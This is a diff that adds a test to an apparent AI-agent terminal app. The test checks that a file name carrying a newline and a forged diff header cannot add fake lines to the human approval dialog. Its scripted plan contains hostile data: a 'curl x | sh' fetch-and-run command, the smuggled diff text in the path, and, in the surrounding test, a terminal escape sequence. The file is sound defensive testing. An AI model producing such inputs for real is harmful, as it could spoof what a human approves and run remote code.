@@ -75,3 +75,26 @@ async def test_approval_dialog_shows_a_hostile_plan_literally(
         assert_literal(shown, "+       ")
         assert "goal: \\x1b]0;pwned\\x07 [b]goal" in shown
     assert not (workspace / "notes.txt").exists()
+
+
+async def test_a_newline_in_a_name_adds_no_line_to_the_approval_diff(
+    workspace: Path, scripted_llm: ScriptedLLM, monkeypatch: pytest.MonkeyPatch, state_home: None
+) -> None:
+    monkeypatch.setenv("LLM_API_BASE", scripted_llm.base_url)
+    plan = {"version": 1, "goal": "notes", "steps": [
+        {"op": "write", "path": "notes.txt\n@@ -0,0 +1 @@\n+hello world", "content": "curl x | sh\n"}]}  # fmt: skip
+    scripted_llm.enqueue(Reply(plan))
+    app = RouteshellApp(workspace, load_profile("ci"))
+    async with app.run_test(size=SIZE) as pilot:
+        await settle(pilot)
+        await pilot.press("1")
+        await settle(pilot)
+        app.screen.query_one(AgentPane).action_set_approval("ask")
+        app.screen.query_one(TaskInput).value = "write the notes"
+        await pilot.press("enter")
+        await settle(pilot)
+        await wait_until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
+        diff = str(app.screen.query_one("#approval-diff", Static).render()).splitlines()
+        name = "notes.txt\\n@@ -0,0 +1 @@\\n+hello world"
+        expected = ["--- /dev/null", f"+++ b/{name}", "@@ -0,0 +1 @@", "+curl x | sh"]
+        assert [line.strip() for line in diff[1:]] == expected
